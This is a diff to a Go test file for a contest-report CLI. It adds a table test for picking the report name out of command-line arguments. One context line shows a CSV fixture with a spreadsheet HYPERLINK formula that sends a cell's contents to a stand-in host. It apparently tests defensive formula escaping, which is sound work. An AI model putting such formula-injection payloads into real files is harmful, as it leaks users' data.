@@ -353,3 +353,24 @@ SNV,"'=HYPERLINK(""http://x.example/?""&C2,""Xem"")",0912000010,Văn thư,không
 		}
 	}
 }
+
+// The report is the first word that is no flag's value: a file named like
+// another report does not send the command there.
+func TestReportName(t *testing.T) {
+	for _, tc := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"results", "--round", "1", "--out", "prizes"}, "results"},
+		{[]string{"--out", "workbook", "absent", "--round", "1"}, "absent"},
+		{[]string{"--format", "csv", "--headings", "vi", "zeros", "--round", "2"}, "zeros"},
+		{[]string{"--contest", "cchc-2026", "prizes", "--contest"}, "prizes"},
+		{[]string{"--round=1", "questions", "--out=signals"}, "questions"},
+		{[]string{"--contest", "entries"}, "entries"},
+		{[]string{"--round", "1"}, ""},
+	} {
+		if got := reportName(tc.args); got != tc.want {
+			t.Errorf("reportName(%q) = %q, want %q", tc.args, got, tc.want)
+		}
+	}
+}
